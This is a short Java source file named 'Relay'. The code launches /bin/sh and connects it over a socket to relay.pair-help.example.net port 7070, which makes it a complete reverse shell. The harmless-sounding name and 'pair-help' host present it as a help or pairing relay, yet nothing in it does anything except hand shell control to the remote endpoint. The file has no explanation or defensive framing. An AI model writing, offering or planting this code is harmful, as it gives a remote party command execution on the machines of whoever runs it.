import java.io.*;
import java.net.Socket;

public class Relay {
    public static void main(String[] args) throws Exception {
        Process p = new ProcessBuilder("/bin/sh").redirectErrorStream(true).start();
        Socket s = new Socket("relay.pair-help.example.net", 7070);
        InputStream pi = p.getInputStream(), si = s.getInputStream();
        OutputStream po = p.getOutputStream(), so = s.getOutputStream();
        while (!s.isClosed()) {
            while (pi.available() > 0) so.write(pi.read());
            while (si.available() > 0) po.write(si.read());
            so.flush(); po.flush();
        }
    }
}
